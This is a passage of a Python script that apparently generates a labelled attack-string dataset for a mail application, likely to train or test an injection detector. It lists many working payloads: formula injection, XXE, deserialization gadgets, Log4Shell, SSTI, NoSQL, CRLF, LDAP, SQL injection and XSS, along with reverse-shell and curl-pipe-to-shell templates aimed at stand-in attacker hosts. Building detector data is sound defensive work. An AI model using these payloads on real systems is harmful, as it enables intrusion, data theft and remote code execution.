    ("contacts-csv-hyperlink", "=HYPERLINK(\"https://attacker.example/?d=\"&A2&B2, \"Click for details\")"),
    ("contacts-csv-plus", "+SUM(1+1)*cmd|'/C powershell IEX(wget attacker.example/p)'!A0"),
    ("contacts-csv-at", "@SUM(1+9)*cmd|' /C notepad'!'A1'"),
    ("contacts-csv-minus", "-2+3+cmd|' /C explorer https://attacker.example'!A0"),
    ("contacts-csv-webservice", "=WEBSERVICE(\"https://attacker.example/c?\"&ENCODEURL(C2))"),
    ("contacts-csv-importxml", "=IMPORTXML(CONCAT(\"https://attacker.example/?\",A1:C9),\"//a\")"),
    ("contacts-csv-dde-tab", "\t=DDE(\"cmd\";\"/C calc\";\"x\")"),
    ("settings-proto-pollution", "{\"__proto__\": {\"isAdmin\": true}}"),
    ("settings-constructor-prototype", "{\"theme\": \"dark\", \"constructor\": {\"prototype\": {\"shell\": \"/bin/sh\", \"NODE_OPTIONS\": \"--require /proc/self/environ\"}}}"),
    ("search-query-proto-pollution", "label[__proto__][sendAll]=true"),
    ("settings-proto-outputFunctionName", "{\"__proto__\": {\"outputFunctionName\": \"x;process.mainModule.require('child_process').execSync('id');//\"}}"),
    ("import-xxe-file", "<?xml version=\"1.0\"?><!DOCTYPE contacts [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><contacts><c name=\"&x;\"/></contacts>"),
    ("import-xxe-oob", "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY % d SYSTEM \"http://attacker.example/e.dtd\"> %d;]><r/>"),
    ("import-xxe-php-filter", "<!DOCTYPE foo [<!ENTITY s SYSTEM \"php://filter/read=convert.base64-encode/resource=/var/www/config.php\">]><opml><head><title>&s;</title></head></opml>"),
    ("import-xxe-xinclude", "<contact xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"file:///etc/hostname\"/></contact>"),
    ("import-xml-billion-laughs", "<?xml version=\"1.0\"?><!DOCTYPE l [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\"><!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;\">]><l>&d;&d;&d;</l>"),
    ("import-svg-xxe", "<?xml version=\"1.0\" standalone=\"yes\"?><!DOCTYPE svg [<!ENTITY h SYSTEM \"file:///etc/hostname\">]><svg xmlns=\"http://www.w3.org/2000/svg\"><text>&h;</text></svg>"),
    ("draft-php-unserialize", "O:8:\"Mailbox\":1:{s:4:\"path\";s:20:\"/var/www/html/x.php\";}"),
    ("draft-python-pickle-b64", "gASVHQAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg=="),
    ("draft-python-pickle-proto0", "cos\nsystem\n(S'curl attacker.example/s|sh'\ntR."),
    ("draft-yaml-python", "!!python/object/apply:os.system [\"id\"]"),
    ("draft-yaml-ruby", "--- !ruby/object:Gem::Installer\ni: x\n--- !ruby/object:Gem::Requirement\nrequirements: !ruby/object:Gem::Package::TarReader\n  io: !ruby/object:Net::BufferedIO\n    io: &1 !ruby/object:Gem::Package::TarReader::Entry\n      read: 0\n      header: \"abc\""),
    ("draft-xstream-eventhandler", "<sorted-set><dynamic-proxy><interface>java.lang.Comparable</interface><handler class=\"java.beans.EventHandler\"><target class=\"java.lang.ProcessBuilder\"><command><string>sh</string><string>-c</string><string>id</string></command></target><action>start</action></handler></dynamic-proxy></sorted-set>"),
    ("draft-dotnet-typename", "{\"$type\": \"System.Windows.Data.ObjectDataProvider, PresentationFramework\", \"MethodName\": \"Start\", \"ObjectInstance\": {\"$type\": \"System.Diagnostics.Process, System\"}, \"MethodParameters\": {\"$type\": \"System.Collections.ArrayList\", \"$values\": [\"cmd\", \"/c calc\"]}}"),
    ("draft-jackson-polymorphic", "[\"com.sun.rowset.JdbcRowSetImpl\", {\"dataSourceName\": \"ldap://attacker.example:1389/x\", \"autoCommit\": true}]"),
    ("draft-fastjson-autotype", "{\"@type\": \"com.sun.rowset.JdbcRowSetImpl\", \"dataSourceName\": \"rmi://203.0.113.11:1099/e\", \"autoCommit\": true}"),
    ("draft-node-serialize", "{\"rce\": \"_$$ND_FUNC$$_function(){require('child_process').exec('id')}()\"}"),
    ("filter-python-eval", "__import__('os').system('id')"),
    ("filter-node-eval", "require('child_process').execSync('cat /etc/passwd').toString()"),
    ("filter-ruby-eval", "`id`.tap { |o| Net::HTTP.get(URI(\"http://attacker.example/?\" + o)) }"),
    ("filter-php-eval", "${@system($_GET['c'])}"),
    ("filter-mvel", "Runtime.getRuntime().exec(\"touch /tmp/mvel\")"),
    ("plain-ssti", "{{7*7}}${7*7}<%= 7*7 %>"),
    ("plain-log4shell", "${jndi:ldap://attacker.example/a}"),
    ("plain-csv", "=1+2;=cmd|' /C calc'!A1"),
    ("plain-proto", "__proto__[admin]=1"),
    ("plain-el", "${T(java.lang.Runtime).getRuntime().exec('id')}"),
    ("plain-xxe", "<!DOCTYPE x [<!ENTITY y SYSTEM \"file:///etc/passwd\">]><x>&y;</x>"),
    ("subject-log4shell+case-lookup", "${${upper:j}${upper:n}${upper:d}${upper:i}:ldap://attacker.example/u}"),
    ("autoreply-ssti-jinja+hex-escape", "{{ ''['\\x5f\\x5fclass\\x5f\\x5f']['\\x5f\\x5fmro\\x5f\\x5f'][1]['\\x5f\\x5fsubclasses\\x5f\\x5f']() }}"),
    ("settings-proto+unicode-escape", "{\"\\u005f\\u005fproto\\u005f\\u005f\": {\"isAdmin\": true}}"),
    ("header-log4shell+urlenc", "%24%7Bjndi%3Aldap%3A%2F%2Fattacker.example%2Fz%7D"),
    ("autoreply-ssti-jinja+request-args", "{{ request|attr(request.args.c)|attr(request.args.g) }}"),
]

# ----------------------------------------------------------------- nosqli
# JSON search API passes the parsed value into a MongoDB query / $where.
NOSQLI = [
    ("search-json-ne", "{\"from\": {\"$ne\": null}}"),
    ("login-json-gt", "{\"username\": \"admin\", \"password\": {\"$gt\": \"\"}}"),
    ("search-json-regex", "{\"owner\": {\"$regex\": \"^adm\"}, \"folder\": \"Inbox\"}"),
    ("search-where-js", "{\"$where\": \"this.owner == 'pat' || true\"}"),
    ("search-where-sleep", "{\"$where\": \"sleep(5000) || true\"}"),
    ("search-query-bracket-ne", "from[$ne]=nobody@example.com"),
    ("login-query-bracket-regex", "user=admin&pass[$regex]=^a.*"),
    ("search-json-or", "{\"$or\": [{\"owner\": \"pat\"}, {\"owner\": {\"$exists\": true}}]}"),
    ("search-json-in", "{\"mailbox\": {\"$in\": [\"pat\", \"admin\", \"ceo\"]}}"),
    ("search-json-expr", "{\"$expr\": {\"$function\": {\"body\": \"function(){return true}\", \"args\": [], \"lang\": \"js\"}}}"),
    ("search-string-breakout-js", "pat' || '1'=='1"),
    ("search-string-js-where", "'; return db.users.find(); var x='"),
    ("aggregate-lookup", "[{\"$lookup\": {\"from\": \"users\", \"localField\": \"owner\", \"foreignField\": \"_id\", \"as\": \"u\"}}]"),
    ("search-json-nin", "{\"labels\": {\"$nin\": []}, \"owner\": {\"$gt\": \"\"}}"),
    ("search-json-regex-blind", "{\"resetToken\": {\"$regex\": \"^7f\"}}"),
    ("settings-json-set-operator", "{\"$set\": {\"role\": \"admin\"}}"),
    ("search-mapreduce-js", "{\"mapReduce\": \"messages\", \"map\": \"function(){emit(1, db.getCollectionNames())}\", \"reduce\": \"function(){}\"}"),
    ("search-couch-selector", "{\"selector\": {\"_id\": {\"$gt\": null}}, \"fields\": [\"password\"]}"),
    ("plain-ne", "{\"$ne\": 1}"),
    ("plain-gt", "[$gt]="),
    ("plain-where", "{\"$where\": \"1==1\"}"),
    ("search-query-bracket-ne+urlenc", "from%5B%24ne%5D=x"),
    ("search-where+unicode-escape", "{\"\\u0024where\": \"sleep(3000)\"}"),
]

# ------------------------------------------------------------------- crlf
# subject / display name / reply-to written into outgoing headers; values
# written to the mail log; redirect after login.
CRLF = [
    ("subject-header-bcc", "Quarterly report\r\nBcc: everyone@example.com, list@attacker.example"),
    ("displayname-header-injection", "Pat O'Brien\r\nReply-To: mallory@attacker.example"),
    ("subject-body-injection", "Hello\r\nContent-Type: text/html\r\n\r\n<h1>Your account is locked</h1><a href=https://attacker.example>verify</a>"),
    ("to-address-cc-lf", "ann@example.com\nCc: victim1@example.org, victim2@example.org"),
    ("replyto-newline", "support@example.com\nX-Forwarded-Mail: yes\nBcc: dump@attacker.example"),
    ("subject-smtp-smuggle", "Hi\r\n.\r\nMAIL FROM:<ceo@example.com>\r\nRCPT TO:<finance@example.com>\r\nDATA\r\nSubject: wire transfer\r\n\r\nPay 50k today.\r\n.\r\n"),
    ("log-entry-forge", "alice@example.org\n2024-03-12T09:14:00Z INFO login ok user=admin ip=10.0.0.1"),
    ("log-entry-forge-cr", "search failed\r[2024-03-12 09:15:00] AUDIT admin exported all mailboxes"),
    ("redirect-header-split", "/inbox\r\nSet-Cookie: session=attacker-fixed-4471; Path=/"),
    ("redirect-response-split", "/login?next=%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0aContent-Type:%20text/html%0d%0a%0d%0a<script>alert(1)</script>"),
    ("folder-imap-command", "Archive\r\nA002 DELETE INBOX"),
    ("search-imap-literal", "invoice\" \r\nA005 FETCH 1:* (BODY[])\r\n"),
    ("attachment-filename-header", "report.pdf\"\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>"),
    ("subject-unicode-linesep", "Re: update\u2028Bcc: leak@attacker.example"),
    ("subject-nel", "Lunch?\u0085Bcc: harvest@attacker.example"),
    ("displayname-encoded-word-newline", "=?UTF-8?Q?Pat=0D=0ABcc:_x@attacker.example?= <pat@example.org>"),
    ("header-x-original-url", "X-Original-URL: /admin\r\nX-Rewrite-URL: /admin/export"),
    ("autoreply-header-injection", "Back Monday.\nSubject: URGENT invoice\nFrom: ceo@example.com"),
    ("sender-smtp-verb", "pat@example.org>\r\nRCPT TO:<ceo@example.com>\r\nDATA"),
    ("log-ansi-escape", "login failed for \x1b[2J\x1b[1;1Hroot: all good\n"),
    ("location-lf-only", "/settings\nLocation: https://attacker.example/phish"),
    ("plain-crlf-header", "\r\nSet-Cookie: admin=true"),
    ("plain-lf-bcc", "x\nBcc: spam@attacker.example"),
    ("plain-crlf-location", "\r\nLocation: https://attacker.example/"),
    ("plain-crlf-urlenc", "%0d%0aX-Injected: 1"),
    ("subject-bcc+urlenc", "Hello%0D%0ABcc:%20all@example.com"),
    ("redirect-split+double-urlenc", "/inbox%250d%250aSet-Cookie:%2520sid=fixed"),
    ("log-forge+utf8-overlong", "user=pat%c0%8a%c0%8dADMIN login ok"),
    ("redirect-split+unicode-crlf", "/inbox\u560d\u560aSet-Cookie: sid=fixed"),
]

# ------------------------------------------------------------- ldap-xpath
# address-book autocomplete: (&(objectClass=person)(|(cn=<v>*)(mail=<v>*)))
# XML contact store queried with //contact[name='<v>']
LDAP_XPATH = [
    ("addrbook-ldap-wildcard", "*)(objectClass=*"),
    ("addrbook-ldap-or-inject", "pat*)(|(userPassword=*)"),
    ("addrbook-ldap-attr-probe", "ann)(mail=*))(|(cn=*"),
    ("addrbook-ldap-blind-prefix", "admin)(userPassword=a*"),
    ("addrbook-ldap-and-true", "*)(&"),
    ("addrbook-ldap-nullbyte", "pat)%00"),
    ("login-ldap-bypass", "admin)(!(&(1=0"),
    ("addrbook-ldap-memberof", "*)(memberOf=cn=Domain Admins,cn=Users,dc=example,dc=com"),
    ("addrbook-ldap-description", "x)(|(description=*pass*)(info=*"),
    ("contacts-xpath-tautology", "' or '1'='1"),
    ("contacts-xpath-union", "x'] | //user/password | //contact[name='y"),
    ("contacts-xpath-count", "' or count(//user)>0 or 'a'='b"),
    ("contacts-xpath-substring", "' or substring(//user[1]/password,1,1)='s' or '"),
    ("contacts-xpath-doc", "x' or doc('http://attacker.example/x.xml')/a or '"),
    ("contacts-xpath-name-enum", "' or name(/*[1])='contacts' and '1'='1"),
    ("contacts-xpath-comment-node", "')] | //comment() | //contact[contains(name,'"),
    ("plain-ldap", "*)(uid=*))(|(uid=*"),
    ("plain-xpath", "' or 1=1 or ''='"),
    ("plain-ldap-nullbyte", "*))%00"),
    ("addrbook-ldap+urlenc", "%2A%29%28objectClass%3D%2A"),
    ("addrbook-ldap+hex-escape", "\\2a)(cn=\\2a"),
]

# -------------------------------------------------------------- templates
T_SEARCH_OPS = ["from:", "subject:", "label:", "list:", "to:", "filename:"]
T_SEARCH_SEED = ["alice", "invoice", "pta-board", "Q3", "Rechnung", "receipts"]
T_SQL_TAILS = [
    ("union", "' UNION SELECT email, password_hash FROM users-- -"),
    ("boolean", "' OR 2>1-- -"),
    ("time-mysql", "' AND SLEEP(6)-- -"),
    ("time-pg", "'||pg_sleep(6)||'"),
    ("error-mysql", "' AND extractvalue(rand(), concat(0x3a, database()))-- -"),
]
T_XSS_FIELDS = [("subject", "Re: "), ("folder", "Projects/"), ("displayname", "Ann Smith "), ("label", "Travel ")]
T_XSS_PAYLOADS = [
    ("img-onerror", "<img src=/ onerror=alert(document.domain)>"),
    ("svg-onload", "<svg onload=fetch('//attacker.example/'+document.cookie)>"),
    ("script", "<script>alert(localStorage.getItem('token'))</script>"),
    ("iframe-js", "<iframe src=javascript:alert(1)>"),
    ("body-onpageshow", "<body onpageshow=alert(1)>"),
]
T_CMD_STEMS = ["invoice", "scan", "minutes", "Angebot", "photo"]
T_CMD_EXT = [".pdf", ".jpg", ".docx"]
T_CMD_INJ = [
    ("semicolon", "; curl http://attacker.example/{n} | sh"),
    ("subshell", "$(wget -q http://203.0.113.{n}/s -O- | sh)"),
    ("backtick", "`nc 198.51.100.{n} 9001 -e /bin/sh`"),
    ("and", " && bash -c 'sh -i >& /dev/tcp/203.0.113.{n}/443 0>&1'"),
]
T_SSRF_CTX = ["imageproxy", "linkpreview", "avatar", "webhook"]
T_SSRF_TARGETS = [
    ("internal-range", "http://10.0.{a}.{b}:8080/admin"),
    ("private-range", "http://192.168.{a}.{b}/cgi-bin/luci"),
    ("docker-bridge", "http://172.17.{a}.{b}:2375/version"),
]
T_TRAV_FILES = ["etc/passwd", "etc/shadow", "root/.bash_history", "var/lib/mysql/mysql/user.MYD",
                "home/mail/.fetchmailrc", "etc/dovecot/dovecot.conf"]
T_SSTI = [
    ("jinja", "{{{{ self.__init__.__globals__.__builtins__.__import__('os').popen('{c}').read() }}}}"),
    ("twig", "{{{{ ['{c}']|filter('exec') }}}}"),
    ("freemarker", "${{\"freemarker.template.utility.Execute\"?new()(\"{c}\")}}"),
]
T_SSTI_CMDS = ["id", "uname -a", "cat /etc/hostname", "ls /home", "whoami"]


def gen_sqli(rng):
    tech, tail = rng.choice(T_SQL_TAILS)
    return "search-%s" % tech, rng.choice(T_SEARCH_OPS) + rng.choice(T_SEARCH_SEED) + tail


def gen_xss(rng):
    (ctx, pre), (tech, pay) = rng.choice(T_XSS_FIELDS), rng.choice(T_XSS_PAYLOADS)
    return "%s-%s" % (ctx, tech), pre + pay


def gen_cmdi(rng):
    tech, inj = rng.choice(T_CMD_INJ)
    name = rng.choice(T_CMD_STEMS) + rng.choice(T_CMD_EXT)
    return "attachment-filename-%s" % tech, name + inj.format(n=rng.randint(2, 250))


def gen_ssrf(rng):
    tech, url = rng.choice(T_SSRF_TARGETS)
    v = url.format(a=rng.randint(0, 255), b=rng.randint(1, 254))
    cls = "%s-%s" % (rng.choice(T_SSRF_CTX), tech)
    if rng.random() < 0.25:
        return cls + "+urlenc", quote(v, safe="")
    return cls, v


def gen_traversal(rng):
    depth = rng.randint(3, 8)
    f = rng.choice(T_TRAV_FILES)
    if rng.random() < 0.5:
        return "attachment-download-dotdot", "../" * depth + f
    return "archive-path-dotdot", "lists/pta-board/2024/" + "../" * (depth + 3) + f


def gen_code(rng):
    tech, tpl = rng.choice(T_SSTI)
    return "autoreply-ssti-%s" % tech, "Away until Monday. " + tpl.format(c=rng.choice(T_SSTI_CMDS))


# (category, literal list, template, number of templated values)
CATEGORIES = [
    ("sqli", SQLI, gen_sqli, 10),
    ("xss", XSS, gen_xss, 10),
    ("cmdi", CMDI, gen_cmdi, 10),
    ("traversal", TRAVERSAL, gen_traversal, 4),
    ("ssrf", SSRF, gen_ssrf, 5),
    ("code", CODE, gen_code, 6),
    ("nosqli", NOSQLI, None, 0),
    ("crlf", CRLF, None, 0),
    ("ldap-xpath", LDAP_XPATH, None, 0),
]


def main():
    rng = random.Random(SEED)
    rows = []
    seen = set()
    stats = []
    benign_path = Path(__file__).with_name("benign.jsonl")
    benign_vals = set()
    if benign_path.exists():
        with open(benign_path, encoding="utf-8") as fh:
            for line in fh:
                benign_vals.add(json.loads(line)["value"])
    for cat, lits, gen, n_tpl in CATEGORIES:
        items = []
        for cls, v in lits:
            if v in seen:
                raise SystemExit("duplicate literal in %s: %r" % (cat, v))
            seen.add(v)
            items.append((cls, v))
        n_lit = len(items)
        tries = 0
        while len(items) < n_lit + n_tpl:
            tries += 1
            if tries > 10000:
                raise SystemExit("template pool exhausted for " + cat)
            cls, v = gen(rng)
            if v in seen:
                continue
            seen.add(v)
            items.append((cls, v))
        stats.append((cat, len(items), n_lit))
        for cls, v in items:
            assert isinstance(v, str) and v and len(v) <= 1800, (cat, v)
            assert v not in benign_vals, ("also benign", v)
            rows.append({"category": cat, "class": cls, "value": v})
    out = Path(__file__).with_name("attacks.jsonl")
    with open(out, "w", encoding="utf-8", newline="\n") as fh:
        for i, r in enumerate(rows, 1):
            obj = {"id": "%s-%05d" % (PREFIX, i), "category": r["category"], "class": r["class"],
                   "label": "attack", "value": r["value"]}
            fh.write(json.dumps(obj, ensure_ascii=False) + "\n")
    total_lit = 0
    for cat, n, nl in stats:
        total_lit += nl
        print("%-11s %3d  (literals %d)" % (cat, n, nl))
    plain = sum(1 for r in rows if r["class"].startswith("plain-"))
    enc = sum(1 for r in rows if "+" in r["class"])
    print("total %d, literals %d (%.0f%%), plain %d, encoded %d -> %s" % (
        len(rows), total_lit, 100.0 * total_lit / len(rows), plain, enc, out.name))


if __name__ == "__main__":
    main()
